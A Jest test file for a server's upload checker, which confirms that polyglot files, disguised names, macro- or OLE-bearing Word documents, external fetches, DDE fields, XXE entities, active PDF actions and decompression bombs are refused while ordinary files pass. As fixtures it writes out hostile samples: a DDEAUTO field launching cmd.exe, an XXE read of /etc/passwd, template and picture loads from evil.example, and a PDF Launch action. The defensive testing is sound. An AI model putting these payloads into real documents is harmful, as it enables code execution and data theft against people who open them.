// Files made to pass for something else, to fetch, to start something, or to fill the memory of whoever opens them: each by the check that
// every upload goes through, and the sound files beside them, so that nothing is refused for its looks alone.
import { expect, test } from '@jest/globals'
import { spawnSync } from 'node:child_process'
import path from 'node:path'
import { deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName } from 'pdf-lib'
import { fileName } from '#app/server/multipart.ts'
import { inspect } from '#app/server/file-types.ts'
import { docx, jpg, localRecord, objectStream, pdf, png, rawPdf, relation, zip } from '#test/support/files.ts'

const inside = (type: string, target: string) => relation(type, target).replace(' TargetMode="External"', '')
const types = (more: string) => `<Types>${more}<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
const document = (body: string) => ({ 'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?><w:document><w:body>${body}</w:body></w:document>` })
const field = (...instructions: string[]) => `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
const said = async (name: string, content: Uint8Array) => {
  const found = await inspect(fileName(name), Buffer.from(content))
  return 'problem' in found ? found.problem : `taken: ${found.type}`
}
const OLE = Buffer.from('d0cf11e0a1b11ae1000000000000000000', 'hex')
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>'

test('S-43 two kinds of file in one are neither: an archive behind a PDF or a picture, a PDF before an archive or within a picture', async () => {
  const archive = zip({ 'META-INF/MANIFEST.MF': 'Main-Class: A' })
  const whole = Buffer.from(await pdf())
  expect(await said('both.pdf', Buffer.concat([whole, archive]))).toBe('notWhatItSays')
  expect(await said('both.pdf', Buffer.concat([whole, archive, Buffer.from('\n%%EOF\n')]))).toBe('notWhatItSays')
  expect(await said('both.jpg', Buffer.concat([jpg(20, 20), archive]))).toBe('notWhatItSays')
  expect(await said('both.png', Buffer.concat([png(20, 20), archive]))).toBe('notWhatItSays')
  expect(await said('page.png', Buffer.concat([png(20, 20), Buffer.from('<script>alert(1)</script>')]))).toBe('broken')
  expect(await said('both.gif', Buffer.concat([Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'), archive]))).toBe('type')
  expect(await said('gifar.docx', Buffer.concat([Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'), docx()]))).toBe('notWhatItSays')
  expect(await said('late.pdf', Buffer.concat([Buffer.from('\n'.repeat(100)), whole]))).not.toContain('taken')
  expect(await said('pdf.docx', zip({ '[Content_Types].xml': types(''), 'word/a.xml': { content: Buffer.from('<a>%PDF-1.7</a>'), stored: true }, 'word/document.xml': '<w:document/>' }))).toBe('notWhatItSays')
  const chunk = png(20, 20)
  expect(await said('pdf.png', Buffer.concat([chunk.subarray(0, 33), Buffer.from('0000000974455874', 'hex'), Buffer.from('%PDF-1.7 '), Buffer.alloc(4), chunk.subarray(33)]))).toBe('notWhatItSays')
})

test('S-43 the end of a name decides, and no trick in it: double endings, a zero byte, direction marks, dots and spaces', async () => {
  const whole = await pdf()
  for (const name of ['a.pdf.exe', 'a.pdf%00', 'a.pdf%00.exe', 'a.pdf\u0000.exe', 'a.exe\u0000', 'a.pdf.', 'a.pdf .html', 'a.html', 'a.pdf:stream', 'a.pdf/', 'a\u202Efdp.exe', '.pdf', 'pdf', '']) expect([name, await said(name, whole)]).toEqual([name, 'type'])
  expect(await said('report.final.PDF', whole)).toBe('taken: pdf')
  expect(await said('a.docm', docx())).toBe('type')
  expect(await said('a.rtf', Buffer.from('{\\rtf1}'))).toBe('type')
})

test('S-43 a document takes no code, under whatever name it lies and however it is tied to the text', async () => {
  const refused: Record<string, Buffer> = {
    'a macro project': docx({ 'word/vbaProject.bin': { content: OLE } }),
    'one called a picture': docx({ 'word/media/image1.png': { content: OLE } }),
    'one called a text': docx({ 'word/comments.xml': { content: OLE } }),
    'one declared under another name': docx({ '[Content_Types].xml': types('<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>'), 'word/a.xml': '<a/>' }),
    'one declared for every picture': docx({ '[Content_Types].xml': types('<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>') }),
    'one tied in under another name': docx({ 'word/_rels/document.xml.rels': inside('vbaProject', 'media/image1.png') }),
    'an object': docx({ 'word/_rels/document.xml.rels': inside('oleObject', 'media/image1.png') }),
    'a package within': docx({ 'word/_rels/document.xml.rels': inside('package', 'media/image1.png') }),
    'an object in the text': docx(document('<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>')),
    'a control': docx(document('<w:control r:id="r1"/>')),
    'another document pulled in': docx({ ...document('<w:altChunk r:id="r1"/>') }),
    'the same by its tie': docx({ 'word/_rels/document.xml.rels': inside('aFChunk', 'a.xml') }),
    'a template of its own': docx({ 'word/_rels/settings.xml.rels': inside('attachedTemplate', 'a.xml') }),
    'a page of HTML': docx({ 'word/afchunk.xml': '<html/>' }),
    'a page of HTML by its kind': docx({ '[Content_Types].xml': types('<Override PartName="/word/a.xml" ContentType="text/html"/>') }),
    'an archive': docx({ 'word/media/a.zip': { content: zip({ a: 'a' }) } }),
    'an archive called a picture': docx({ 'word/media/image1.jpeg': { content: zip({ a: 'a' }), stored: true } }),
    'a program called a picture': docx({ 'word/media/image1.png': 'MZ\u0090' }),
    'a program': docx({ 'word/media/a.exe': 'MZ' }),
    'a shortcut': docx({ 'word/media/a.lnk': 'x' }),
    'a binary part': docx({ 'word/printerSettings1.bin': 'x' }),
  }
  for (const [what, content] of Object.entries(refused)) expect([what, await said('a.docx', content)]).toEqual([what, 'macros'])
})

test('S-43 a document fetches nothing: outside templates, pictures and frames, and fields that load or start something, however they are written', async () => {
  const refused: Record<string, Buffer> = {
    'a template from outside': docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm') }),
    'a picture from outside': docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/pixel.png') }),
    'a share of files': docx({ 'word/_rels/document.xml.rels': relation('image', '\\\\evil.example\\share\\a.png') }),
    'a link to a file': docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'file:///etc/passwd') }),
    'a link that starts a program': docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'ms-msdt:/id') }),
    'the mode in other letters': docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example').replace('External', 'external') }),
    'the mode in codes': docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example').replace('External', '&#x45;xternal') }),
    'a tie with a mark before its name': docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example').replace('<Relationship ', '<p:Relationship ') }),
    'a mode within another attribute': docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example').replace('Id="r1"', `Id=' TargetMode="Internal" '`) }),
    'an attribute with an arrow before the mode': docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example').replace('Id="r1"', 'Id="r>1"') }),
    DDE: docx(document(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))),
    'DDE in pieces': docx(document(field('DD', 'EAU', 'TO cmd'))),
    'DDE in codes': docx(document(field('&#68;DEAUTO cmd'))),
    'DDE around a comment': docx(document(field('DDE<!-- -->AUTO cmd'))),
    'DDE as a section of data': docx(document(field('<![CDATA[DDEAUTO cmd]]>'))),
    'DDE within another field': docx(document(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>${field('DDE cmd')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`)),
    'DDE that is never closed': docx(document('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd</w:instrText></w:r>')),
    'a simple field': docx(document('<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/a&quot; "/>')),
    'a picture by a field, in a header': docx({ 'word/header1.xml': `<w:hdr>${field(' INCLUDEPICTURE "https://evil.example/pixel.png" \\d ')}</w:hdr>` }),
    'a field spelt in numbers': docx(document(field('QUOTE 68 68 69 65'))),
  }
  for (const [what, content] of Object.entries(refused)) expect([what, await said('a.docx', content)]).toEqual([what, 'macros'])
})

test('S-43 a document declares no entities and hides nothing in another encoding', async () => {
  const xxe = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document>&b;</w:document>'
  for (const part of ['word/document.xml', 'word/_rels/document.xml.rels', '[Content_Types].xml', 'customXml/item1.xml', 'docProps/core.xml']) expect([part, await said('a.docx', docx({ [part]: xxe }))]).toEqual([part, 'broken'])
  expect(await said('late.docx', docx({ 'word/document.xml': `<!--${Array.from({ length: 20_000 }, (_, index) => Math.sin(index)).join(' ')}--><!DOCTYPE a><w:document/>` }))).toBe('broken')
  expect(await said('utf16.docx', docx({ 'word/document.xml': { content: Buffer.from(`\uFEFF${xxe}`, 'utf16le') } }))).toBe('broken')
  expect(await said('utf16.docx', docx({ 'word/_rels/document.xml.rels': { content: Buffer.from(relation('image', 'https://evil.example'), 'utf16le') } }))).toBe('broken')
  expect(await said('utf7.docx', docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><w:document/>' }))).toBe('broken')
  expect(await said('cut.docx', docx({ 'word/document.xml': '<w:document><w:body' }))).toBe('broken')
})

test('S-43 what people write is taken: pictures, links, notes, tables of contents, page numbers, words that sound like code', async () => {
  const text = document(`${field(' TOC \\o "1-3" \\h ')}${field(' PAGE ')}${field(' HYPERLINK "https://example.org/link" ')}<w:p><w:r><w:t>&lt;!DOCTYPE&gt; DDEAUTO and &quot;INCLUDETEXT&quot; are words, 5 &gt; 3</w:t></w:r></w:p><!-- <!DOCTYPE> --><w:p w:rsidR="a>b"/>`)
  const usual = docx({
    ...text, 'word/media/image1.png': { content: png(20, 20) }, 'word/media/image2.JPG': { content: jpg(20, 20) }, 'word/media/image3.emf': 'EMF', 'word/footnotes.xml': '<w:footnotes/>', 'word/fonts/font1.odttf': 'x', 'customXml/item1.xml': '<b:Sources/>', 'word/': { content: Buffer.alloc(0), stored: true },
    'docMetadata/LabelInfo.xml': '<clbl:labelList/>', '[Content_Types].xml': types('<Override PartName="/docMetadata/LabelInfo.xml" ContentType="application/vnd.ms-office.classificationlabels+xml"/><Default Extension="bin" ContentType="application/octet-stream"/><Default Extension="png" ContentType="image/png"/>'), 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.org/?a=1&amp;b=2'),
  })
  expect(await said('usual.docx', usual)).toBe('taken: docx')
  expect(await said('long.docx', docx(document(Array.from({ length: 40_000 }, (_, index) => `<w:p><w:r><w:t>Paragraph ${index} of ${Math.sin(index)}</w:t></w:r></w:p>`).join(''))))).toBe('taken: docx')
})

test('S-43 a PDF carries no scripts, programs, files or forms that send, in whatever spelling and however packed', async () => {
  const actions: Record<string, string> = {
    'a script': '<< /S /JavaScript /JS (app.alert\\(1\\)) >>', 'a program': '<< /S /Launch /F (cmd.exe) >>', 'a form that sends': '<< /S /SubmitForm /F (https://evil.example) >>', 'data taken in': '<< /S /ImportData /F (a.fdf) >>',
    'another file': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>', 'a file within': '<< /S /GoToE /T << >> >>', 'a film': '<< /Type /Annot /Subtype /RichMedia >>', 'embedded files': '<< /Names << /EmbeddedFiles << >> >> >>', 'one embedded file': '<< /Type /EmbeddedFile >>', 'a form of XFA': '<< /AcroForm << /XFA 5 0 R >> >>', 'XFA in a list': '<< /XFA[(a) 5 0 R] >>',
  }
  for (const [what, action] of Object.entries(actions)) {
    expect([what, await said('a.pdf', rawPdf([CATALOG, PAGES, action]))]).toEqual([what, 'active'])
    expect([what, 'packed', await said('a.pdf', rawPdf([CATALOG, PAGES, objectStream(action)]))]).toEqual([what, 'packed', 'active'])
  }
  const script = actions['a script']!
  expect(await said('codes.pdf', rawPdf([CATALOG, PAGES, script.replace('/JavaScript', '/J#61va#53cript')]))).toBe('active')
  expect(await said('first.pdf', rawPdf([CATALOG, PAGES, objectStream(script, '/Type /Obj#53tm /N 1 /Fi#72st 4 /Filter /FlateDecode')]))).toBe('active')
  expect(await said('untyped.pdf', rawPdf([CATALOG, PAGES, objectStream(script, '/N 1 /First 4 /Filter [ /FlateDecode ]')]))).toBe('active')
  expect(await said('confused.pdf', rawPdf([CATALOG, PAGES, objectStream(script, '/Type /ObjStm /N 1 /First 4 /X (endobj 9 0 obj) /Filter /FlateDecode')]))).not.toContain('taken')
  for (const dictionary of ['/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', '/Type /ObjStm /N 1 /First 4 /Filter 7 0 R', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>']) expect([dictionary, await said('odd.pdf', rawPdf([CATALOG, PAGES, objectStream(script, dictionary)]))]).toEqual([dictionary, 'broken'])
  for (const locked of ['/Encrypt 4 0 R ', '/Encrypt<< /Filter /Standard >> ', '/Encr#79pt 4 0 R ']) expect(await said('locked.pdf', rawPdf([CATALOG, PAGES], locked))).toBe('broken')
  expect(await said('stub.pdf', Buffer.from('%PDF-1.7\n'))).toBe('broken')
})

test('S-43 a PDF with links, an outline, a first view and packed objects is ordinary', async () => {
  const made = await PDFDocument.create()
  for (let page = 0; page < 30; page++) made.addPage([200, 200]).drawText(`JavaScript is a word, page ${page}`, { x: 10, y: 100, size: 8 })
  const first = made.getPages()[0]!
  made.catalog.set(PDFName.of('OpenAction'), made.context.obj([first.ref, PDFName.of('Fit')]))
  first.node.set(PDFName.of('Annots'), made.context.obj([made.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: { Type: 'Action', S: 'URI', URI: 'https://example.org' } })]))
  for (const useObjectStreams of [true, false]) expect(await said('usual.pdf', await made.save({ useObjectStreams }))).toBe('taken: pdf')
})

test('S-43 S-44 a picture is one picture from its beginning to its end, and tells one size', async () => {
  expect(await said('a.jpg', jpg(4000, 3000))).toBe('taken: jpg')
  // As a camera leaves it: a smaller picture and notes behind the first.
  expect(await said('camera.jpg', Buffer.concat([jpg(4000, 3000), jpg(400, 300), Buffer.from('SEFT')]))).toBe('taken: jpg')
  expect(await said('huge.jpg', jpg(65_500, 65_500))).toBe('pixels')
  expect(await said('cut.jpg', jpg(20, 20).subarray(0, -2))).toBe('broken')
  expect(await said('huge.png', png(50_000, 50_000))).toBe('pixels')
  const [large, small] = [png(50_000, 50_000), png(10, 10)]
  expect(await said('two.png', Buffer.concat([large.subarray(0, 33), small.subarray(8)]))).toBe('broken')
  expect(await said('two.jpg', Buffer.concat([jpg(10, 10).subarray(0, 20), jpg(65_500, 65_500).subarray(20, 33), jpg(10, 10).subarray(20)]))).toBe('broken')
})

/** What a check of its own process took: a bomb that was unpacked would show in both. */
function measured(files: Record<string, Buffer>): Record<string, { said: string; ms: number; grownMb: number }> {
  const program = path.join(import.meta.dirname, '..', 'support', 'inspect-files.ts')
  const input = JSON.stringify(Object.entries(files).map(([name, content]) => [name, content.toString('base64')]))
  const ran = spawnSync(process.execPath, ['--import', 'tsx', program], { input, encoding: 'utf8', maxBuffer: 1 << 26 })
  if (ran.status !== 0) throw new Error(ran.stderr)
  return JSON.parse(ran.stdout) as ReturnType<typeof measured>
}

test('S-44 a bomb is refused within a second and 50 MB, however it is built', () => {
  const zeros = Buffer.alloc(180 * 1024 * 1024)
  const packed = deflateRawSync(zeros)
  const kernel = localRecord('word/b.xml', Buffer.alloc(10_000_000, ' '))
  const five = Buffer.alloc(20)
  five.writeUInt16LE(1, 0)
  five.writeUInt16LE(16, 2)
  five.writeBigUInt64LE(5n * 1024n ** 3n, 4)
  five.writeBigUInt64LE(5n * 1024n ** 3n, 12)
  // Noise, so that what is claimed stays within the ratio and only the unpacking tells.
  const ballast = { content: Buffer.from(Array.from({ length: 2_500_000 }, (_, index) => (index * 2_654_435_761) >>> 13)), stored: true }
  const lying = (claims: number) => ({ content: zeros, claims })
  const found = measured({
    'claims.docx': docx({ 'word/media/a.png': { content: Buffer.alloc(1000), claims: 300 * 1024 * 1024 } }),
    'ratio.docx': docx({ 'word/media/a.png': { content: Buffer.alloc(5_000_000) } }),
    'many.docx': docx(Object.fromEntries(Array.from({ length: 2100 }, (_, index) => [`word/media/${index}.xml`, '<x/>']))),
    'nested like 42.zip.docx': docx(Object.fromEntries(Array.from({ length: 16 }, (_, index) => [`word/media/lib ${index}.zip`, { content: packed, stored: true }]))),
    'says little, is much.docx': docx({ 'word/media/a.png': lying(2000) }),
    'says little, is much, as text.docx': docx({ 'word/comments.xml': lying(2000) }),
    'one within another.docx': docx({ 'word/media/a.png': { content: Buffer.concat([Buffer.from('x'), kernel]).subarray(1), stored: true }, 'word/b.xml': { content: Buffer.alloc(10_000_000, ' '), insideOf: 'word/media/a.png' }, 'word/media/ballast.png': ballast }),
    'one name twice.docx': Buffer.from(docx({ 'word/aaaaaa.xml': '<a/>', 'word/bbbbbb.xml': '<b/>' }).toString('latin1').replaceAll('bbbbbb', 'aaaaaa'), 'latin1'),
    'two names for one.docx': docx({ 'word/a.xml': { content: Buffer.from('<a/>'), localName: 'word/vbaProject.bin' } }),
    'zip64.docx': docx({ 'word/media/a.png': { content: Buffer.alloc(1000), claims: 0xffffffff, extra: five } }),
    'a link.docx': docx({ 'word/media/a.png': { content: Buffer.from('/etc/passwd'), stored: true, mode: 0o120777 } }),
    'a path.docx': docx({ '../../../tmp/a.xml': '<a/>' }),
    'one long tag.docx': docx({ 'word/media/ballast.png': ballast, 'word/comments.xml': `<a ${'b'.repeat(30_000_000)}` }),
    'all tags begin.docx': docx({ 'word/media/ballast.png': ballast, 'word/comments.xml': '<"'.repeat(10_000_000) }),
    'all comments begin.docx': docx({ 'word/media/ballast.png': ballast, 'word/comments.xml': '<!--'.repeat(5_000_000) }),
    'objects.pdf': rawPdf([CATALOG, PAGES, Buffer.concat([Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'), deflateSync(zeros), Buffer.from('\nendstream')])]),
    'streams.pdf': rawPdf([CATALOG, PAGES, '<< >>\nstream\n\nendstream '.repeat(25_000)]),
    'huge.png': png(60_000, 60_000),
  })
  const refusedAs = Object.fromEntries(Object.entries(found).map(([name, one]) => [name, one.said]))
  expect(refusedAs).toEqual({ ...Object.fromEntries(Object.keys(found).map((name) => [name, 'broken'])), 'nested like 42.zip.docx': 'macros', 'huge.png': 'pixels' })
  expect(Object.entries(found).filter(([, one]) => one.ms >= 1000 || one.grownMb >= 50)).toEqual([])
})
